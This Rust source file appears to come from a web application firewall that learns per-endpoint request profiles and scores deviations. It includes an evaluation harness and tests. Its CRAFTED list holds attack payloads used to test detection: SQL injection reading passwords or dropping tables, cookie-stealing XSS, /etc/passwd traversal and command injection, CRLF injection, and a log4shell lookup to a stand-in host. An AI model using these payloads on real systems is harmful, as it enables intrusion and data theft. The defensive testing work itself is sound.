//! Learning mode: a per-endpoint profile of normal traffic (methods, content types,
//! parameter names, per-parameter length range, characters and value types), learned from
//! requests and enforced by [`ProfileDetector`], which turns deviations into scored
//! findings. Profiles are pretty-printed JSON so they can be read and edited by hand.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::path::Path;

use palisade_engine::{Detector, Finding, Severity};
use palisade_http::RequestModel;
use serde::{Deserialize, Serialize};

/// Bumped whenever the arguments a request gives change, since a profile lists them per
/// endpoint: 2 = JSON bodies under other types (sendBeacon's text/plain) and
/// `application/graphql` bodies give arguments (under version 1 they gave none, and their
/// parameters would all be unknown).
pub const PROFILE_VERSION: u32 = 2;

/// What kind of value a parameter holds, from most to least specific.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize, Hash)]
#[serde(rename_all = "snake_case")]
pub enum ValueType {
    Empty,
    Integer,
    Decimal,
    Hex,
    Uuid,
    Email,
    /// Letters, digits and `_ - .` without spaces (slugs, names, codes, tokens).
    Identifier,
    /// Words with spaces and ordinary punctuation.
    Text,
    /// Anything else (markup, code, unusual symbols).
    Other,
}

impl ValueType {
    pub fn of(v: &[u8]) -> ValueType {
        if v.is_empty() {
            return ValueType::Empty;
        }
        let digits = |s: &[u8]| !s.is_empty() && s.iter().all(u8::is_ascii_digit);
        let unsigned = v.strip_prefix(b"-").unwrap_or(v);
        if digits(unsigned) {
            return ValueType::Integer;
        }
        if let Some(p) = unsigned.iter().position(|&b| b == b'.' || b == b',') {
            if digits(&unsigned[..p]) && digits(&unsigned[p + 1..]) {
                return ValueType::Decimal;
            }
        }
        if v.len() == 36
            && v.iter().enumerate().all(|(i, &b)| {
                if matches!(i, 8 | 13 | 18 | 23) {
                    b == b'-'
                } else {
                    b.is_ascii_hexdigit()
                }
            })
        {
            return ValueType::Uuid;
        }
        if v.len() >= 8 && v.iter().all(u8::is_ascii_hexdigit) && v.iter().any(u8::is_ascii_digit) {
            return ValueType::Hex;
        }
        let ident = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.');
        if let Some(at) = v.iter().position(|&b| b == b'@') {
            let (user, domain) = (&v[..at], &v[at + 1..]);
            if !user.is_empty()
                && user.iter().all(|b| ident(b) || *b == b'+')
                && domain.contains(&b'.')
                && domain.iter().all(ident)
            {
                return ValueType::Email;
            }
        }
        if v.iter().all(ident) {
            return ValueType::Identifier;
        }
        if v.iter().all(|&b| {
            b.is_ascii_alphanumeric()
                || b >= 0x80
                || matches!(
                    b,
                    b' ' | b'.'
                        | b','
                        | b'-'
                        | b'_'
                        | b'\''
                        | b'!'
                        | b'?'
                        | b':'
                        | b'/'
                        | b'('
                        | b')'
                )
        }) {
            return ValueType::Text;
        }
        ValueType::Other
    }

    /// Whether a parameter that has held `self` accepts a value of type `t` (a free-text
    /// field accepts a number; a number field does not accept text).
    fn accepts(self, t: ValueType) -> bool {
        use ValueType::*;
        self == t
            || t == Empty
            || match self {
                Decimal => t == Integer,
                Hex => t == Integer,
                Identifier => matches!(t, Integer | Decimal | Hex | Uuid),
                Text => matches!(t, Integer | Decimal | Hex | Uuid | Email | Identifier),
                Other => true,
                _ => false,
            }
    }
}

/// Everything learned about one parameter of one endpoint.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct Param {
    /// Number of requests it was seen in.
    pub count: usize,
    pub min_len: usize,
    pub max_len: usize,
    pub mean_len: f64,
    pub std_len: f64,
    /// Character classes seen: any of `lower`, `upper`, `digit`, `space`, `non_ascii`.
    pub classes: BTreeSet<String>,
    /// Every ASCII symbol (not a letter, digit or space) seen in a value.
    pub symbols: String,
    /// Value types seen, with counts.
    pub types: BTreeMap<ValueType, usize>,
    #[serde(skip)]
    sum_sq: f64,
}

fn classes_of(v: &[u8]) -> (BTreeSet<&'static str>, BTreeSet<u8>) {
    let mut classes = BTreeSet::new();
    let mut symbols = BTreeSet::new();
    for &b in v {
        match b {
            b'a'..=b'z' => {
                classes.insert("lower");
            }
            b'A'..=b'Z' => {
                classes.insert("upper");
            }
            b'0'..=b'9' => {
                classes.insert("digit");
            }
            b' ' => {
                classes.insert("space");
            }
            0x80..=0xff => {
                classes.insert("non_ascii");
            }
            _ => {
                symbols.insert(b);
            }
        }
    }
    (classes, symbols)
}

impl Param {
    fn observe(&mut self, v: &[u8]) {
        let len = v.len();
        if self.count == 0 {
            self.min_len = len;
            self.max_len = len;
        }
        self.min_len = self.min_len.min(len);
        self.max_len = self.max_len.max(len);
        // Running sums; mean and std are finalized in `finish`.
        self.mean_len += len as f64;
        self.sum_sq += (len * len) as f64;
        self.count += 1;
        let (classes, symbols) = classes_of(v);
        self.classes.extend(classes.into_iter().map(str::to_string));
        let mut all: BTreeSet<u8> = self.symbols.bytes().collect();
        all.extend(symbols);
        self.symbols = all.into_iter().map(char::from).collect();
        *self.types.entry(ValueType::of(v)).or_default() += 1;
    }

    fn finish(&mut self) {
        let n = self.count.max(1) as f64;
        let mean = self.mean_len / n;
        self.mean_len = (mean * 100.0).round() / 100.0;
        self.std_len = (((self.sum_sq / n) - mean * mean).max(0.0).sqrt() * 100.0).round() / 100.0;
        self.sum_sq = 0.0;
    }
}

#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct Endpoint {
    pub requests: usize,
    pub methods: BTreeMap<String, usize>,
    pub content_types: BTreeMap<String, usize>,
    pub params: BTreeMap<String, Param>,
}

#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
pub struct Profile {
    pub version: u32,
    /// Requests learned from.
    pub requests: usize,
    /// Keyed by path pattern: the decoded path with numeric and hex/UUID segments replaced
    /// by `{int}` and `{id}`.
    pub endpoints: BTreeMap<String, Endpoint>,
}

/// The endpoint key of a request path.
pub fn endpoint_key(path: &str) -> String {
    let segs: Vec<String> = path
        .split('/')
        .map(|s| {
            if !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()) {
                "{int}".to_string()
            } else if s.len() >= 16 && s.bytes().all(|b| b.is_ascii_hexdigit() || b == b'-') {
                "{id}".to_string()
            } else {
                s.to_string()
            }
        })
        .collect();
    segs.join("/")
}

/// The parameters of a request: query and body arguments (by name).
fn params(r: &RequestModel) -> impl Iterator<Item = (&str, &[u8])> {
    r.args().map(|(_, a)| (a.name.as_str(), a.value.as_slice()))
}

impl Profile {
    pub fn learn(requests: &[RequestModel]) -> Profile {
        let mut p = Profile {
            version: PROFILE_VERSION,
            requests: requests.len(),
            endpoints: BTreeMap::new(),
        };
        for r in requests {
            let e = p.endpoints.entry(endpoint_key(&r.path)).or_default();
            e.requests += 1;
            *e.methods.entry(r.method.clone()).or_default() += 1;
            if let Some(ct) = r.mime_type() {
                *e.content_types.entry(ct).or_default() += 1;
            }
            for (name, value) in params(r) {
                e.params.entry(name.to_string()).or_default().observe(value);
            }
        }
        for e in p.endpoints.values_mut() {
            for param in e.params.values_mut() {
                param.finish();
            }
        }
        p
    }

    pub fn save(&self, path: &Path) -> std::io::Result<()> {
        let text = serde_json::to_string_pretty(self).map_err(std::io::Error::other)?;
        std::fs::write(path, text + "\n")
    }

    pub fn load(path: &Path) -> Result<Profile, ProfileError> {
        let shown = path.display().to_string();
        let text =
            std::fs::read_to_string(path).map_err(|e| ProfileError(format!("{shown}: {e}")))?;
        let p: Profile = serde_json::from_str(&text)
            .map_err(|e| ProfileError(format!("{shown}: not a valid profile: {e}")))?;
        if p.version != PROFILE_VERSION {
            return Err(ProfileError(format!(
                "{shown}: profile version {}, expected {PROFILE_VERSION}: it was learned by \
                 another Palisade version, which read requests' arguments differently; learn \
                 it again (palisade learn)",
                p.version
            )));
        }
        Ok(p)
    }
}

#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct ProfileError(pub String);

#[derive(Debug, Clone, Copy)]
pub struct ProfileOptions {
    /// Endpoints seen fewer times are not enforced (too little evidence).
    pub min_endpoint_requests: usize,
    /// Parameters seen fewer times only get the unknown-name check.
    pub min_param_samples: usize,
    /// Zero-point findings (log only).
    pub log_only: bool,
}

impl Default for ProfileOptions {
    fn default() -> Self {
        ProfileOptions {
            min_endpoint_requests: 10,
            min_param_samples: 20,
            log_only: false,
        }
    }
}

pub struct ProfileDetector {
    profile: Profile,
    options: ProfileOptions,
}

impl ProfileDetector {
    pub fn new(profile: Profile, options: ProfileOptions) -> ProfileDetector {
        ProfileDetector { profile, options }
    }

    /// Deviations of `r` from the profile, as (rule, severity, target, message, value).
    pub fn deviations(&self, r: &RequestModel, out: &mut Vec<Finding>) {
        let o = &self.options;
        let Some(e) = self.profile.endpoints.get(&endpoint_key(&r.path)) else {
            return;
        };
        if e.requests < o.min_endpoint_requests {
            return;
        }
        let mut push = |id: &str, sev: Severity, target: String, msg: String, value: &[u8]| {
            let mut f = Finding::new(id, "profile", &msg, "anomaly", sev, &target, value, 1);
            if o.log_only {
                f.score = 0;
            }
            out.push(f);
        };
        if !e.methods.contains_key(&r.method) {
            push(
                "profile:method",
                Severity::Warning,
                "REQUEST_METHOD".into(),
                format!("method {} never seen on this endpoint", r.method),
                r.method.as_bytes(),
            );
        }
        if let Some(ct) = r.mime_type() {
            if !e.content_types.is_empty() && !e.content_types.contains_key(&ct) {
                push(
                    "profile:content-type",
                    Severity::Warning,
                    "REQUEST_HEADERS:Content-Type".into(),
                    format!("content type {ct} never seen on this endpoint"),
                    ct.as_bytes(),
                );
            }
        }
        for (name, value) in params(r) {
            let target = format!("ARGS:{name}");
            let Some(p) = e.params.get(name) else {
                push(
                    "profile:unknown-param",
                    Severity::Warning,
                    format!("ARGS_NAMES:{name}"),
                    format!("parameter {name:?} never seen on this endpoint"),
                    name.as_bytes(),
                );
                continue;
            };
            if p.count < o.min_param_samples {
                continue;
            }
            // Length: beyond the longest value seen by half again (and 8 bytes of slack),
            // or beyond mean + 6 standard deviations, whichever is larger.
            let limit =
                (p.max_len + (p.max_len / 2).max(8)).max((p.mean_len + 6.0 * p.std_len) as usize);
            if value.len() > limit {
                // Far outside (over twice the limit) scores enough to block alone.
                let sev = if value.len() > 2 * limit {
                    Severity::Critical
                } else {
                    Severity::Warning
                };
                push(
                    "profile:length",
                    sev,
                    target.clone(),
                    format!(
                        "{} bytes, learned {}..{} (mean {:.1})",
                        value.len(),
                        p.min_len,
                        p.max_len,
                        p.mean_len
                    ),
                    value,
                );
            }
            let (classes, symbols) = classes_of(value);
            let new_symbols: String = symbols
                .iter()
                .filter(|s| !p.symbols.as_bytes().contains(s))
                .map(|&b| char::from(b))
                .collect();
            let new_classes: Vec<&str> = classes
                .iter()
                .filter(|c| !p.classes.contains(**c))
                .copied()
                .filter(|c| matches!(*c, "space" | "non_ascii"))
                .collect();
            let novel = new_symbols.len() + new_classes.len();
            if novel > 0 {
                // One new kind of character is suspicious; several at once (quotes, equals
                // signs and spaces in a field that never had them) block alone.
                let sev = if novel >= 2 {
                    Severity::Critical
                } else {
                    Severity::Error
                };
                push(
                    "profile:characters",
                    sev,
                    target.clone(),
                    format!(
                        "characters never seen in this parameter: {new_symbols:?} {new_classes:?}"
                    ),
                    value,
                );
            }
            let t = ValueType::of(value);
            if !p.types.keys().any(|seen| seen.accepts(t)) {
                push(
                    "profile:type",
                    Severity::Warning,
                    target,
                    format!(
                        "{t:?} value, learned {:?}",
                        p.types.keys().collect::<Vec<_>>()
                    ),
                    value,
                );
            }
        }
    }
}

impl Detector for ProfileDetector {
    fn name(&self) -> &str {
        "profile"
    }

    fn inspect_request(&self, request: &RequestModel, _paranoia: u8, out: &mut Vec<Finding>) {
        self.deviations(request, out);
    }
}

/// Splits requests into (learn, held out): a request is held out when a fixed hash of its
/// index falls in the first `fraction` of the hash range. Deterministic, and unlike an
/// every-k-th split it cannot alias with a log's periodic order (CSIC alternates GET/POST).
pub fn split_holdout(
    requests: Vec<RequestModel>,
    fraction: f64,
) -> (Vec<RequestModel>, Vec<RequestModel>) {
    let cut = (fraction.clamp(0.0, 1.0) * u64::MAX as f64) as u64;
    let mut learn = Vec::new();
    let mut held = Vec::new();
    for (i, r) in requests.into_iter().enumerate() {
        let h = crate::model::fnv64(&(i as u64).to_le_bytes()).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        if h < cut {
            held.push(r);
        } else {
            learn.push(r);
        }
    }
    (learn, held)
}

/// Payloads crafted against an application's parameters, by kind.
pub const CRAFTED: &[(&str, &str)] = &[
    ("sqli", "' OR '1'='1"),
    ("sqli", "1 UNION SELECT username, password FROM users--"),
    ("sqli", "1; DROP TABLE productos"),
    ("sqli", "x' AND SLEEP(5)#"),
    ("xss", "<script>alert(document.cookie)</script>"),
    ("xss", "\"><img src=x onerror=alert(1)>"),
    ("traversal", "../../../../etc/passwd"),
    ("cmdi", "; cat /etc/passwd"),
    ("cmdi", "`id`"),
    ("ssti", "{{7*7}}"),
    ("log4shell", "${jndi:ldap://evil.example/a}"),
    ("overflow", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"),
    ("crlf", "x\r\nSet-Cookie: admin=1"),
    ("nosql", "{\"$gt\": \"\"}"),
];

/// The outcome of [`measure`].
#[derive(Debug, Clone, Default)]
pub struct Measurement {
    pub normal: usize,
    /// Held-out normal requests reaching 5 points (blocked at the default threshold).
    pub normal_blocked: usize,
    /// With any finding at all.
    pub normal_flagged: usize,
    /// Per payload kind: (crafted, blocked).
    pub attacks: BTreeMap<String, (usize, usize)>,
    /// Unknown parameter injected into a known endpoint: (crafted, flagged).
    pub unknown_param: (usize, usize),
}

fn score(det: &ProfileDetector, r: &RequestModel) -> (u32, bool) {
    let mut f = Vec::new();
    det.deviations(r, &mut f);
    (f.iter().map(|x| x.score).sum(), !f.is_empty())
}

/// Scores held-out normal requests, and attacks crafted from them: each request with
/// parameters gets one payload of each [`CRAFTED`] entry in turn (rotating over its
/// parameters and the payload list), plus an injected unknown parameter.
pub fn measure(profile: &Profile, held: &[RequestModel], options: &ProfileOptions) -> Measurement {
    let det = ProfileDetector::new(
        profile.clone(),
        ProfileOptions {
            log_only: false,
            ..*options
        },
    );
    let mut m = Measurement::default();
    for (i, r) in held.iter().enumerate() {
        let (s, any) = score(&det, r);
        m.normal += 1;
        m.normal_blocked += usize::from(s >= 5);
        m.normal_flagged += usize::from(any);
        let n_params = r.args().count();
        if n_params == 0 {
            continue;
        }
        let (kind, payload) = CRAFTED[i % CRAFTED.len()];
        let mut attacked = r.clone();
        let target = i % n_params;
        set_param(&mut attacked, target, payload.as_bytes());
        let (s, _) = score(&det, &attacked);
        let slot = m.attacks.entry(kind.to_string()).or_default();
        slot.0 += 1;
        slot.1 += usize::from(s >= 5);
        let mut extra = r.clone();
        extra.args_get.push(palisade_http::Arg {
            name: "debug_mode".into(),
            value: b"1".into(),
            name_repeats: None,
        });
        let (_, any) = score(&det, &extra);
        m.unknown_param.0 += 1;
        m.unknown_param.1 += usize::from(any);
    }
    m
}

/// Replaces the value of the `index`-th argument (query first, then body).
fn set_param(r: &mut RequestModel, index: usize, value: &[u8]) {
    let nq = r.args_get.len();
    if index < nq {
        r.args_get[index].value = value.into();
    } else if let Some(b) = &mut r.body {
        if let Some(a) = b.args.get_mut(index - nq) {
            a.value = value.into();
        }
    }
}

impl fmt::Display for Measurement {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let rate = |a: usize, b: usize| if b == 0 { 0.0 } else { a as f64 / b as f64 };
        writeln!(
            f,
            "held-out normal requests: {}, blocked (>= 5 points) {} (FPR {:.4}), with any finding {} ({:.4})",
            self.normal, self.normal_blocked, rate(self.normal_blocked, self.normal),
            self.normal_flagged, rate(self.normal_flagged, self.normal)
        )?;
        let (mut n, mut b) = (0, 0);
        for (kind, (kn, kb)) in &self.attacks {
            writeln!(
                f,
                "  crafted {kind:<10} {kb}/{kn} blocked ({:.3})",
                rate(*kb, *kn)
            )?;
            n += kn;
            b += kb;
        }
        writeln!(
            f,
            "crafted attacks: {b}/{n} blocked (detection {:.4})",
            rate(b, n)
        )?;
        write!(
            f,
            "unknown parameter injected: {}/{} flagged",
            self.unknown_param.1, self.unknown_param.0
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_http::Headers;

    fn req(target: &str) -> RequestModel {
        RequestModel::from_head("GET", target, "HTTP/1.1", Headers::default())
    }

    #[test]
    fn a_profile_of_another_version_is_refused_with_what_to_do() {
        let dir = std::env::temp_dir().join(format!("palisade-profile-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        let path = dir.join("old.json");
        let mut p = Profile::learn(&[req("/a?x=1")]);
        p.save(&path).expect("save");
        assert!(Profile::load(&path).is_ok());
        p.version = PROFILE_VERSION - 1;
        p.save(&path).expect("save");
        let err = Profile::load(&path).expect_err("old version").to_string();
        assert!(
            err.contains("old.json") && err.contains("palisade learn"),
            "{err}"
        );
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn value_types() {
        assert_eq!(ValueType::of(b"42"), ValueType::Integer);
        assert_eq!(ValueType::of(b"-3.5"), ValueType::Decimal);
        assert_eq!(ValueType::of(b"a@b.co"), ValueType::Email);
        assert_eq!(ValueType::of(b"Vino Rioja"), ValueType::Text);
        assert_eq!(ValueType::of(b"abc_12"), ValueType::Identifier);
        assert_eq!(ValueType::of(b"' OR 1=1"), ValueType::Other);
        assert_eq!(
            ValueType::of(b"123e4567-e89b-12d3-a456-426614174000"),
            ValueType::Uuid
        );
    }

    #[test]
    fn learns_and_flags_deviations() {
        let normal: Vec<RequestModel> = (0..50)
            .map(|i| {
                req(&format!(
                    "/shop/item.jsp?id={i}&name=Vino+{}",
                    ["Rioja", "Blanco"][i % 2]
                ))
            })
            .collect();
        let p = Profile::learn(&normal);
        let e = &p.endpoints["/shop/item.jsp"];
        assert_eq!(e.params["id"].count, 50);
        let det = ProfileDetector::new(p.clone(), ProfileOptions::default());
        let score = |t: &str| {
            let mut f = Vec::new();
            det.deviations(&req(t), &mut f);
            (
                f.iter().map(|x| x.score).sum::<u32>(),
                f.iter().map(|x| x.id.clone()).collect::<Vec<_>>(),
            )
        };
        assert_eq!(score("/shop/item.jsp?id=7&name=Vino+Tinto").0, 0);
        let (s, ids) = score("/shop/item.jsp?id=1%27+OR+%271%27%3D%271&name=x");
        assert!(s >= 5, "{ids:?}");
        assert!(ids.contains(&"profile:type".to_string()));
        assert!(ids.contains(&"profile:characters".to_string()));
        let (s, ids) = score("/shop/item.jsp?id=1&name=x&admin=1");
        assert_eq!(ids, vec!["profile:unknown-param".to_string()]);
        assert!(s < 5);
        // unknown endpoints are not enforced
        assert_eq!(score("/other?x=%27").0, 0);
        // round trip through the file format
        let dir = std::env::temp_dir().join(format!("palisade-profile-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        let file = dir.join("p.json");
        p.save(&file).expect("save");
        assert_eq!(Profile::load(&file).expect("load"), p);
        std::fs::write(&file, "{\"version\": 1, \"endpoints\": 3}").expect("write");
        assert!(Profile::load(&file)
            .unwrap_err()
            .to_string()
            .contains("not a valid profile"));
        let _ = std::fs::remove_dir_all(&dir);
    }
}
